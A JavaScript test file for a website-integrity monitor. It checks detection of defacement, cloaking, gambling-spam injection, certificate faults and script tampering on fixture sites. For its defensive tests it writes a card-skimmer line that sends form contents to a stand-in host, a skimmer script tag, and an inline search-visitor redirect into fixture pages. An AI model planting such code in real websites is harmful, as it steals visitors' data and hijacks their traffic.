// test_monitor.mjs: the website monitor of a real sigap serve against a real
// nginx serving the fixture sites (monitor_sites.mjs; docs/monitor.md).
// Keepers of the register watch URLs of assets; the server's watcher
// checks them on its own; each site's trouble becomes the right finding and
// an alert on its asset for the CTI SOP's officers, with the page kept as
// evidence; an officer accepts a page as the baseline, then a change inside
// a dynamic region is nothing, a change outside it is berubah with its
// difference, a new external script is skrip_baru, and putting the page
// back recovers; a site failing again and again is one alert with a count;
// an agen_siber reads its OPD's sites only; forms need their CSRF token.
// Skipped when nginx or openssl is absent.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync, renameSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startServer, api, Client, storeSql, until } from './server.mjs';
import { startSites, HAVE_NGINX } from './monitor_sites.mjs';

let S, SITES, WORK;
const tokens = {};
const as = (u) => api(S.base, tokens[u]);
const site = {}; // name -> watched site id
const asset = {}; // name -> asset id

before(async () => {
	if (!HAVE_NGINX)
		return;
	WORK = mkdtempSync(join(tmpdir(), 'sigap-monitor-http-'));
	SITES = await startSites(join(WORK, 'nginx'));
	// an hour between checks: after the watcher's first round, checks are
	// the test's own (check now)
	S = await startServer(`[pantau]\nca_file = ${SITES.ca}\ninterval = 1h\nlambat = 1s\ntimeout = 10s\nalamat_dalam = izinkan\n`);
	for (const u of ['teknis', 'ttis', 'kabid', 'petugas', 'pelapor', 'agen.dinkes', 'agen.disdik'])
		tokens[u] = S.cli('token', 'new', u, '--name', 'pantau').trim();
});

after(async () => {
	if (S)
		await S.stop();
	if (SITES)
		await SITES.stop();
	if (WORK)
		rmSync(WORK, { recursive: true, force: true });
});

const opts = { skip: !HAVE_NGINX };
const NAMES = ['clean', 'defaced', 'cloaked', 'footer', 'slow', 'down', 'expired', 'expiring', 'redirect', 'changing'];

test('keepers watch URLs of assets; bad requests are refused with their reason', opts, async () => {
	for (const n of NAMES) {
		const opd = n === 'footer' ? 'DISDIK' : 'DINKES';
		const a = await as('teknis')('POST', '/assets', { opd, name: `Situs ${n}`, kind: 'situs_web', urls: [SITES.url(n)] });
		assert.equal(a.status, 201, a.text);
		asset[n] = a.json.id;
		const body = { asset: a.json.id, url: SITES.url(n) };
		if (n === 'clean')
			Object.assign(body, { paths: ['/profil.html'], regions: ['#berita'] });
		if (n === 'changing')
			body.regions = ['#berita', 'p.tanggal'];
		const r = await as(n === 'redirect' ? 'ttis' : 'teknis')('POST', '/monitor/sites', body);
		assert.equal(r.status, 201, r.text);
		assert.equal(r.json.state, 'baru');
		assert.equal(r.json.period, 3600);
		site[n] = r.json.id;
	}
	for (const [who, body, status, why] of [
		['teknis', { asset: asset.clean, url: SITES.url('clean') }, 409, /watched already/],
		['teknis', { asset: asset.clean, url: SITES.url('defaced') }, 400, /add the URL to the asset first/],
		['teknis', { asset: 999999, url: SITES.url('clean') + 'x' }, 404, /no asset 999999/],
		['teknis', { asset: asset.clean, url: 'ftp://x/' }, 400, /not an http/],
		['teknis', { asset: asset.slow, url: SITES.url('slow'), period: 30 }, 400, /1 minute to 1 day/],
		['teknis', { asset: asset.slow, url: SITES.url('slow'), regions: ['#'] }, 400, /no name after '#'/],
		['teknis', { asset: asset.slow, url: SITES.url('slow'), paths: ['profil'] }, 400, /beginning with '\/'/],
		['teknis', { asset: asset.slow, url: SITES.url('slow'), warna: 1 }, 400, /warna/],
		['petugas', { asset: asset.slow, url: SITES.url('slow') }, 403, /may not change the watched websites/],
		['agen.dinkes', { asset: asset.slow, url: SITES.url('slow') }, 403, /may not change/],
	]) {
		const r = await as(who)('POST', '/monitor/sites', body);
		assert.equal(r.status, status, `${who} ${JSON.stringify(body)}: ${r.text}`);
		assert.match(r.json.error.message, why);
	}
	assert.equal(storeSql(S.dir, 'SELECT COUNT(*) FROM monitor_sites').trim(), String(NAMES.length));
	assert.equal(storeSql(S.dir, "SELECT COUNT(*) FROM logbook WHERE action = 'monitor.add'").trim(), String(NAMES.length));
});

const get = async (n) => (await as('ttis')('GET', `/monitor/sites/${site[n]}`)).json;
const open = (s) => s.findings.filter((f) => f.resolved_at === null);
const kinds = (s) => open(s).map((f) => f.kind).sort();

test('the server checks every site on its own, and each trouble is the right finding', opts, async () => {
	await until(async () => (await as('ttis')('GET', '/monitor/sites')).json.sites.every((s) => s.last_at !== null),
		'every site checked by the watcher', 30000);
	const expect = {
		clean: ['normal', []],
		defaced: ['deface', ['deface']],
		cloaked: ['injeksi', ['cloaking', 'judi']],
		footer: ['injeksi', ['judi', 'tautan_tersembunyi']],
		slow: ['lambat', ['lambat']],
		down: ['turun', ['tidak_terjangkau']],
		expired: ['sertifikat', ['sertifikat_tidak_sah']],
		expiring: ['sertifikat', ['sertifikat_segera_habis']],
		redirect: ['injeksi', ['pengalihan_asing']],
		changing: ['normal', []],
	};
	for (const [n, [state, ks]] of Object.entries(expect)) {
		const s = await get(n);
		assert.equal(s.state, state, `${n}: ${JSON.stringify(s.findings)}`);
		assert.deepEqual(kinds(s), ks, n);
		assert.equal(s.checks.length, 1, n);
	}
	// the redirect's hop and where it led are recorded with the check
	const red = (await get('redirect')).checks[0];
	assert.equal(red.redirects, `302 http://localhost:${SITES.port.clean}/`);
	assert.equal(red.final_url, `http://localhost:${SITES.port.clean}/`);
	// the clean site's two pages were read, and its dynamic region left out
	const pages = storeSql(S.dir, `SELECT page FROM monitor_pages WHERE site_id = ${site.clean} ORDER BY page`).trim().split('\n');
	assert.deepEqual(pages, [SITES.url('clean'), SITES.url('clean', '/profil.html')]);
	assert.doesNotMatch(storeSql(S.dir, `SELECT text FROM monitor_pages WHERE site_id = ${site.clean}`), /Vaksinasi lanjutan/);
});

test('a finding raises an alert on its asset, with the page kept as evidence and its custody', opts, async () => {
	const d = await get('defaced');
	const [f] = open(d);
	assert.equal(f.level, 'critical');
	assert.match(f.detail.what, /Hacked By/);
	const al = await as('ttis')('GET', `/alerts/${f.alert}`);
	assert.equal(al.status, 200, al.text);
	assert.equal(al.json.kind, 'monitor');
	assert.equal(al.json.level, 'critical');
	assert.equal(al.json.asset_id, asset.defaced);
	assert.match(al.json.title, /^Deface situs: http:\/\/127\.0\.0\.1:\d+\/$/);
	// its event carries the finding's fields and the kept page
	assert.equal(al.json.event.fields.site, String(site.defaced));
	assert.equal(al.json.event.fields.body_sha256, f.evidence.body_sha256);
	assert.deepEqual(al.json.tags ?? [], []);
	// the alert page says it in Bahasa Indonesia, with the page kept and the site
	const browser = new Client(S.base);
	await browser.login('ttis');
	const ap = await browser.get(`/peringatan/${f.alert}`);
	assert.equal(ap.status, 200);
	assert.match(ap.text, /Temuan pemantauan situs web/);
	assert.match(ap.text, /Tanda defacement, ditampilkan kepada pengunjung/);
	assert.ok(ap.text.includes(`/bukti/${f.evidence.body_sha256}`));
	assert.match(ap.text, new RegExp(`href="/pantau/${site.defaced}"`));
	// the page as found, byte for byte, and its text snapshot
	assert.match(f.evidence.agent, /Chrome/);
	assert.equal(f.evidence.address, '127.0.0.1');
	const body = await as('ttis')('GET', `/evidence/${f.evidence.body_sha256}`);
	assert.equal(body.status, 200);
	assert.equal(body.text, readFileSync(join(SITES.dir, 'deface/index.html'), 'utf8'));
	const text = await as('ttis')('GET', `/evidence/${f.evidence.text_sha256}`);
	assert.match(text.text, /^Hacked By Contoh Cyber Team\n\nHACKED BY CONTOH CYBER TEAM\n/);
	// the agent of the site's OPD reads it too; another OPD's does not
	assert.equal((await as('agen.dinkes')('GET', `/evidence/${f.evidence.body_sha256}`)).status, 200);
	assert.equal((await as('agen.disdik')('GET', `/evidence/${f.evidence.body_sha256}`)).status, 404);
	assert.equal((await as('pelapor')('GET', `/evidence/${f.evidence.body_sha256}`)).status, 404);
	// the cloaked site's alert is the crawler's: judi and cloaking, both critical
	const c = open(await get('cloaked'));
	assert.ok(c.every((x) => x.detail.crawler && x.level === 'critical'), JSON.stringify(c));
	// and its evidence is the page the crawler was given, with its agent
	for (const x of c) {
		assert.match(x.evidence.agent, /Googlebot/);
		const t = await as('ttis')('GET', `/evidence/${x.evidence.text_sha256}`);
		assert.match(t.text, /^SLOT GACOR HARI INI/);
	}
});

test('baseline: a change in a dynamic region is nothing, outside it is berubah, a new script is skrip_baru, putting it back recovers', opts, async () => {
	const n = 'changing';
	const file = join(SITES.dir, 'berubah/index.html');
	const original = readFileSync(file, 'utf8');
	const check = async () => {
		const r = await as('ttis')('POST', `/monitor/sites/${site[n]}/check`);
		assert.equal(r.status, 200, r.text);
		return r.json;
	};
	// only an officer of the CTI SOP accepts; the keeper of the register does not
	assert.equal((await as('teknis')('POST', `/monitor/sites/${site[n]}/baseline`)).status, 403);
	const b = await as('ttis')('POST', `/monitor/sites/${site[n]}/baseline`);
	assert.equal(b.status, 200, b.text);
	assert.equal(b.json.accepted, 1);
	assert.equal(b.json.baselines[0].accepted_by, 'ttis');
	// the news and the date change: inside the dynamic regions
	writeFileSync(file, original.replace('Vaksinasi lanjutan dibuka di 12 puskesmas.', 'Posyandu keliling pekan depan.')
		.replace('Kamis, 3 Desember 2026', 'Jumat, 4 Desember 2026'));
	let s = await check();
	assert.deepEqual(kinds(s), [], JSON.stringify(s.findings));
	assert.equal(s.state, 'normal');
	// a line outside them
	writeFileSync(file, original.replace('Jadwal imunisasi anak', 'Jadwal imunisasi anak dan lansia'));
	s = await check();
	assert.deepEqual(kinds(s), ['berubah']);
	const [changed] = open(s);
	assert.equal(changed.level, 'medium');
	assert.match(changed.diff, /^- Jadwal imunisasi anak$/m);
	assert.match(changed.diff, /^\+ Jadwal imunisasi anak dan lansia$/m);
	assert.equal(s.state, 'berubah');
	// the same change seen again counts, and raises no second alert
	s = await check();
	assert.equal(open(s)[0].count, 2);
	assert.equal(open(s)[0].alert, changed.alert);
	// a new external script (a skimmer)
	writeFileSync(file, original.replace('</body>', '<script src="https://cdn-skim.example/k.js"></script></body>'));
	s = await check();
	assert.deepEqual(kinds(s), ['skrip_baru']);
	assert.equal(open(s)[0].detail.what, 'https://cdn-skim.example/k.js');
	// the page put back: everything recovers
	writeFileSync(file, original);
	s = await check();
	assert.deepEqual(kinds(s), []);
	assert.equal(s.state, 'normal');
	assert.ok(s.findings.filter((f) => ['berubah', 'skrip_baru'].includes(f.kind)).every((f) => f.resolved_at !== null));
	assert.equal(s.checks.length, 6);
});

test('scripts: the site\'s own script with other content is skrip_berubah, kept as evidence; an inline script injected is too', opts, async () => {
	const n = 'changing';
	const page = join(SITES.dir, 'berubah/index.html');
	const js = join(SITES.dir, 'berubah/js/situs.js');
	const original = readFileSync(page, 'utf8');
	const script = readFileSync(js, 'utf8');
	const check = async () => {
		const r = await as('ttis')('POST', `/monitor/sites/${site[n]}/check`);
		assert.equal(r.status, 200, r.text);
		return r.json;
	};
	// the page's scripts as last read, with their hashes
	let s = await check();
	assert.deepEqual(kinds(s), []);
	const u = SITES.url(n);
	const kept = JSON.parse(storeSql(S.dir, `SELECT scripts FROM monitor_pages WHERE site_id = ${site[n]} AND page = '${u}'`).trim());
	assert.deepEqual(kept.src.map((x) => x.url), [`${u}js/situs.js`]);
	assert.match(kept.src[0].sha256, /^[0-9a-f]{64}$/);
	// a card skimmer written into the site's own file
	const skimmer = script + "\ndocument.addEventListener('submit',function(){new Image().src='https://kolektor.example/c?'+btoa(document.forms[0].innerText)});\n";
	writeFileSync(js, skimmer);
	s = await check();
	assert.deepEqual(kinds(s), ['skrip_berubah']);
	const [f] = open(s);
	assert.equal(f.level, 'high');
	assert.equal(f.detail.what, `${u}js/situs.js`);
	assert.equal(s.state, 'berubah');
	// its evidence is the script as fetched, with its custody
	assert.equal(f.evidence.url, `${u}js/situs.js`);
	assert.match(f.evidence.agent, /Chrome/);
	const body = await as('ttis')('GET', `/evidence/${f.evidence.body_sha256}`);
	assert.equal(body.status, 200);
	assert.equal(body.text, skimmer);
	const al = await as('ttis')('GET', `/alerts/${f.alert}`);
	assert.equal(al.json.event.fields.body_sha256, f.evidence.body_sha256);
	assert.equal(al.json.event.fields.kind, 'skrip_berubah');
	assert.match(al.json.title, /^Skrip pada situs berubah: /);
	const browser = new Client(S.base);
	await browser.login('ttis');
	const ap = await browser.get(`/peringatan/${f.alert}`);
	assert.match(ap.text, /Isi skrip yang dimuat halaman acuan telah berubah/);
	// seen again: counted, not raised twice
	s = await check();
	assert.equal(open(s)[0].count, 2);
	// the file put back: recovered
	writeFileSync(js, script);
	s = await check();
	assert.deepEqual(kinds(s), []);
	assert.equal(s.state, 'normal');
	// an inline script injected into the page (a redirect of search visitors)
	writeFileSync(page, original.replace('</body>', "<script>if (document.referrer.indexOf('google') >= 0) location.href = 'https://tujuan.example/';</script></body>"));
	s = await check();
	// the shipped rule of search-visitor redirects reads it too
	assert.deepEqual(kinds(s), ['konten', 'skrip_berubah']);
	assert.equal(open(s).find((x) => x.kind === 'konten').detail.rule, 'pengalihan-mesin-pencari');
	const i = open(s).find((x) => x.kind === 'skrip_berubah');
	assert.equal(i.level, 'medium');
	assert.equal(i.detail.value, 1);
	assert.match(i.detail.what, /^if \(document\.referrer/);
	writeFileSync(page, original);
	s = await check();
	assert.deepEqual(kinds(s), []);
	assert.equal(s.state, 'normal');
});

test('one site is checked now at a time: a second meanwhile is refused, saying so', opts, async () => {
	// the slow site answers at 512 bytes a second: its check takes seconds,
	// on a thread of its own: meanwhile the server answers at once, and
	// another check is refused (should it start first, the slow one is
	// refused instead: then again)
	let refused = null;
	for (let attempt = 0; attempt < 3 && !refused; attempt++) {
		let done = false;
		const slow = as('ttis')('POST', `/monitor/sites/${site.slow}/check`).then((x) => { done = true; return x; });
		while (!done && !refused) {
			await new Promise((r) => setTimeout(r, 100));
			const t0 = Date.now();
			const other = await as('kabid')('POST', `/monitor/sites/${site.clean}/check`);
			if (other.status === 503) {
				refused = other;
				assert.ok(Date.now() - t0 < 500, `refused after ${Date.now() - t0} ms`);
				const list = await as('kabid')('GET', '/monitor/sites');
				assert.equal(list.status, 200);
				assert.ok(!done, 'the slow check was still running');
			} else {
				assert.equal(other.status, 200, other.text);
			}
		}
		const first = await slow;
		assert.ok([200, 503].includes(first.status), first.text);
		if (first.status === 503)
			refused = null;
	}
	assert.ok(refused, 'no check was refused while the slow one ran');
	assert.match(refused.json.error.message, /another site is being checked now/);
	// then it is free again
	assert.equal((await as('kabid')('POST', `/monitor/sites/${site.clean}/check`)).status, 200);
});

test('a site failing again and again is one alert with a count', opts, async () => {
	const n = 'changing';
	const file = join(SITES.dir, 'berubah/index.html');
	const check = async () => (await as('kabid')('POST', `/monitor/sites/${site[n]}/check`)).json;
	for (let i = 0; i < 2; i++) {
		renameSync(file, file + '.tmp'); // nginx answers 404
		let s = await check();
		assert.deepEqual(kinds(s), ['galat_http']);
		assert.equal(s.state, 'turun');
		renameSync(file + '.tmp', file);
		s = await check();
		assert.deepEqual(kinds(s), []);
	}
	const s = await get(n);
	const episodes = s.findings.filter((f) => f.kind === 'galat_http');
	assert.equal(episodes.length, 2);
	assert.equal(episodes[0].alert, episodes[1].alert);
	const al = await as('ttis')('GET', `/alerts/${episodes[0].alert}`);
	assert.equal(al.json.count, 2);
});

test('a sitemap: the pages it lists are checked, and pages it lists anew are told', opts, async () => {
	const n = 'changing';
	const dir = join(SITES.dir, 'berubah');
	const u = SITES.url(n);
	const sitemap = (locs) => writeFileSync(join(dir, 'sitemap.xml'), '<?xml version="1.0" encoding="UTF-8"?>\n' +
		'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">' +
		locs.map((l) => `<url><loc>${l}</loc></url>`).join('') + '</urlset>\n');
	sitemap([u, `${u}profil.html`, 'https://lain.example/x', `${u}?a=1&amp;b=2`]);
	const check = async () => {
		const r = await as('ttis')('POST', `/monitor/sites/${site[n]}/check`);
		assert.equal(r.status, 200, r.text);
		return r.json;
	};
	const e = await as('teknis')('PUT', `/monitor/sites/${site[n]}`, { sitemap: true });
	assert.equal(e.status, 200, e.text);
	assert.equal(e.json.sitemap, true);
	let s = await check();
	assert.deepEqual(kinds(s), []);
	const pages = storeSql(S.dir, `SELECT page FROM monitor_pages WHERE site_id = ${site[n]} ORDER BY page`).trim().split('\n');
	assert.deepEqual(pages, [u, `${u}?a=1&b=2`, `${u}profil.html`, `${u}sitemap.xml`]);
	assert.equal(storeSql(S.dir, `SELECT text FROM monitor_pages WHERE site_id = ${site[n]} AND page = '${u}sitemap.xml'`).trim(),
		[u, `${u}?a=1&b=2`, `${u}profil.html`, 'https://lain.example/x'].join('\n'));
	assert.equal((await as('ttis')('POST', `/monitor/sites/${site[n]}/baseline`)).json.accepted, 4);
	// a new page listed: told, high
	writeFileSync(join(dir, 'ppdb-2027.html'), '<html><body><h1>PPDB 2027</h1><p>Pendaftaran dibuka.</p></body></html>');
	sitemap([u, `${u}profil.html`, 'https://lain.example/x', `${u}?a=1&amp;b=2`, `${u}ppdb-2027.html`]);
	s = await check();
	assert.deepEqual(kinds(s), ['sitemap_baru']);
	const first = open(s)[0];
	assert.equal(first.level, 'high');
	// then a gambling page injected and listed too: the same finding grows
	// critical, and its alert with it, told with what it lists now
	writeFileSync(join(dir, 'slot-gacor-maxwin.html'), readFileSync(join(SITES.dir, 'judi-bot/index.html')));
	sitemap([u, `${u}profil.html`, 'https://lain.example/x', `${u}?a=1&amp;b=2`, `${u}ppdb-2027.html`, `${u}slot-gacor-maxwin.html`]);
	s = await check();
	assert.deepEqual(kinds(s), ['judi', 'sitemap_baru']);
	const told = open(s).find((f) => f.kind === 'sitemap_baru');
	assert.equal(told.id, first.id);
	assert.equal(told.level, 'critical');
	assert.equal(told.detail.what, `${u}ppdb-2027.html, ${u}slot-gacor-maxwin.html`);
	const grown = await as('ttis')('GET', `/alerts/${told.alert}`);
	assert.equal(grown.json.level, 'critical');
	assert.equal(grown.json.count, 2);
	assert.match(grown.json.event.fields.what, /slot-gacor-maxwin/);
	assert.equal(open(s).find((f) => f.kind === 'judi').page, `${u}slot-gacor-maxwin.html`);
	// the evidence of the sitemap: each file read with its custody, and the list
	const sm = await as('ttis')('GET', `/evidence/${told.evidence.body_sha256}`);
	assert.match(sm.text, new RegExp(`^${u}sitemap\\.xml\t200\t${u}sitemap\\.xml\t127\\.0\\.0\\.1\t\\d+\t[0-9a-f]{64}$`, 'm'));
	assert.match(sm.text, new RegExp(`^${u}robots\\.txt\t404\t`, 'm'));
	const list = await as('ttis')('GET', `/evidence/${told.evidence.text_sha256}`);
	assert.ok(list.text.includes(`${u}slot-gacor-maxwin.html`));
	// the sitemap put back: the page is no longer listed, but it still
	// serves the spam: it is checked still, and what was found stays
	sitemap([u, `${u}profil.html`, 'https://lain.example/x', `${u}?a=1&amp;b=2`]);
	s = await check();
	assert.deepEqual(kinds(s), ['judi']);
	// removed from the site: its findings end
	renameSync(join(dir, 'slot-gacor-maxwin.html'), join(dir, 'slot-gacor-maxwin.html.tmp'));
	s = await check();
	assert.deepEqual(kinds(s), []);
	assert.equal(s.state, 'normal');
	renameSync(join(dir, 'slot-gacor-maxwin.html.tmp'), join(dir, 'slot-gacor-maxwin.html'));
	// robots.txt names another sitemap: an index whose child lists the page
	writeFileSync(join(dir, 'sitemap-berita.xml'), '<?xml version="1.0" encoding="UTF-8"?>\n' +
		`<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><sitemap><loc>${u}sitemap-berita-1.xml</loc></sitemap></sitemapindex>\n`);
	writeFileSync(join(dir, 'sitemap-berita-1.xml'), '<?xml version="1.0" encoding="UTF-8"?>\n' +
		`<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>${u}slot-gacor-maxwin.html</loc></url></urlset>\n`);
	writeFileSync(join(dir, 'robots.txt'), `User-agent: *\nDisallow: /admin/\nSitemap: ${u}sitemap.xml\nSitemap: ${u}sitemap-berita.xml\n`);
	s = await check();
	assert.deepEqual(kinds(s), ['judi', 'sitemap_baru']);
	const again = open(s).find((f) => f.kind === 'sitemap_baru');
	assert.equal(again.level, 'critical');
	assert.equal(again.detail.value, 3);
	assert.equal(again.detail.what, [`${u}sitemap-berita-1.xml`, `${u}sitemap-berita.xml`, `${u}slot-gacor-maxwin.html`].join(', '));
	assert.equal(open(s).find((f) => f.kind === 'judi').page, `${u}slot-gacor-maxwin.html`);
	// accepted, then robots.txt naming the site's own sitemap alone is no news
	assert.equal((await as('ttis')('POST', `/monitor/sites/${site[n]}/baseline`)).status, 200);
	writeFileSync(join(dir, 'robots.txt'), `User-agent: *\nSitemap: ${u}sitemap.xml\n`);
	s = await check();
	assert.deepEqual(kinds(s), ['judi']); // the page is no longer listed, still there
	rmSync(join(dir, 'slot-gacor-maxwin.html'));
	s = await check();
	assert.deepEqual(kinds(s), []);
	assert.equal(s.state, 'normal');
	rmSync(join(dir, 'robots.txt'));
});

test('links to domains of the indicator store are told', opts, async () => {
	// a list of gambling domains the CSIRT keeps, as indicators: a parent
	// domain of one link, and one no link names
	const list = join(WORK, 'judi.txt');
	writeFileSync(list, 'togel-contoh.example\ntidak-ditautkan.example\n');
	S.cli('ioc', 'import', '--format', 'plain', '--source', 'daftar-judi', list);
	const r = await as('kabid')('POST', `/monitor/sites/${site.footer}/check`);
	assert.equal(r.status, 200, r.text);
	const f = open(r.json).find((x) => x.kind === 'tautan_indikator');
	assert.ok(f, JSON.stringify(r.json.findings));
	assert.equal(f.level, 'high');
	assert.match(f.detail.what, /^togel-contoh\.example \(\d+\)$/);
	assert.equal(f.detail.value, 1);
	// the clean site links to none of them
	const c = await as('kabid')('POST', `/monitor/sites/${site.clean}/check`);
	assert.deepEqual(kinds(c.json), []);
});

test('who reads and who acts: the OPD agent its sites, outsiders nothing', opts, async () => {
	const mine = (await as('agen.dinkes')('GET', '/monitor/sites')).json.sites;
	assert.ok(mine.length >= 9 && mine.every((s) => s.asset.opd.abbrev === 'DINKES'));
	const theirs = (await as('agen.disdik')('GET', '/monitor/sites')).json.sites;
	assert.deepEqual(theirs.map((s) => s.id), [site.footer]);
	assert.equal((await as('agen.disdik')('GET', `/monitor/sites/${site.clean}`)).status, 404);
	assert.equal((await as('agen.dinkes')('GET', `/monitor/sites/${site.clean}`)).status, 200);
	assert.equal((await as('agen.dinkes')('POST', `/monitor/sites/${site.clean}/check`)).status, 403);
	assert.equal((await as('agen.dinkes')('PUT', `/monitor/sites/${site.clean}`, { period: 600 })).status, 403);
	assert.deepEqual((await as('pelapor')('GET', '/monitor/sites')).json.sites, []);
	assert.equal((await as('pelapor')('GET', `/monitor/sites/${site.clean}`)).status, 404);
	assert.equal((await as('ttis')('GET', '/monitor/sites/999999')).status, 404);
	assert.equal((await as('ttis')('GET', '/monitor/sites?state=rusak')).status, 400);
	// a keeper changes and stops a site; each in the logbook
	const u = await as('teknis')('PUT', `/monitor/sites/${site.slow}`, { period: 7200, enabled: false });
	assert.equal(u.status, 200, u.text);
	assert.equal(u.json.period, 7200);
	assert.equal(u.json.enabled, false);
	assert.equal((await as('teknis')('PUT', `/monitor/sites/${site.slow}`, { url: 'http://x/' })).status, 400);
	assert.equal(storeSql(S.dir, `SELECT COUNT(*) FROM logbook WHERE action IN ('monitor.edit', 'monitor.stop') AND object = 'monitor:${site.slow}'`).trim(), '2');
});

test('the pages: the list and a site in Bahasa Indonesia, forms with CSRF', opts, async () => {
	const c = new Client(S.base);
	await c.login('ttis');
	const list = await c.get('/pantau');
	assert.equal(list.status, 200);
	assert.match(list.text, /Pemantauan situs web/);
	assert.match(list.text, /Terkena deface/);
	assert.match(list.text, /Terinjeksi/);
	const page = await c.get(`/pantau/${site.cloaked}`);
	assert.equal(page.status, 200);
	assert.match(page.text, /Crawler mesin pencari diberi Promosi judi online yang tidak ditampilkan kepada pengunjung: slot gacor/);
	assert.match(page.text, /Periksa sekarang/);
	// without its token a form is refused and nothing is done
	const checks = storeSql(S.dir, `SELECT COUNT(*) FROM monitor_checks WHERE site_id = ${site.cloaked}`).trim();
	const bad = await c.post(`/pantau/${site.cloaked}/periksa`, {}, { csrf: false });
	assert.equal(bad.status, 403);
	assert.equal(storeSql(S.dir, `SELECT COUNT(*) FROM monitor_checks WHERE site_id = ${site.cloaked}`).trim(), checks);
	const ok = await c.post(`/pantau/${site.cloaked}/periksa`);
	assert.equal(ok.status, 303);
	assert.equal(ok.location, `/pantau/${site.cloaked}?ok=periksa`);
	assert.equal(storeSql(S.dir, `SELECT COUNT(*) FROM monitor_checks WHERE site_id = ${site.cloaked}`).trim(), String(Number(checks) + 1));
	// the keeper's form: a URL of the register not watched yet
	const t = new Client(S.base);
	await t.login('teknis');
	const form = await t.get('/pantau/baru');
	assert.equal(form.status, 200);
	assert.match(form.text, /name="sasaran"/);
	const a = await as('teknis')('POST', '/assets', { opd: 'DINKES', name: 'Situs baru', kind: 'situs_web', urls: [SITES.url('tls')] });
	const again = await t.get('/pantau/baru');
	const created = await t.post('/pantau/baru', { sasaran: `${a.json.id} ${SITES.url('tls')}`, menit: '15', halaman: '/profil.html\n', wilayah: '#berita\np.tanggal' });
	assert.equal(created.status, 303, created.text.slice(0, 500));
	const id = Number(created.location.split('/').pop());
	const s = (await as('ttis')('GET', `/monitor/sites/${id}`)).json;
	assert.equal(s.period, 900);
	assert.deepEqual(s.paths, ['/profil.html']);
	assert.deepEqual(s.regions, ['#berita', 'p.tanggal']);
	assert.ok(again.text.includes(SITES.url('tls')));
	const refused = await t.post('/pantau/baru', { sasaran: `${a.json.id} ${SITES.url('tls')}`, menit: '0' });
	assert.equal(refused.status, 400);
	assert.match(refused.text, /Isikan jumlah menit antara dua pemeriksaan/);
	// an agent reads, with no form to act
	const g = new Client(S.base);
	await g.login('agen.dinkes');
	const gp = await g.get(`/pantau/${site.defaced}`);
	assert.equal(gp.status, 200);
	assert.doesNotMatch(gp.text, /action="\/pantau\/\d+\/(periksa|baseline|status)"|href="\/pantau\/\d+\/ubah"/);
	assert.match(gp.text, /Tanda defacement, ditampilkan kepada pengunjung/);
	assert.equal((await g.get(`/pantau/${site.footer}`)).status, 404);
	assert.equal((await g.get('/pantau/baru')).status, 403);
});
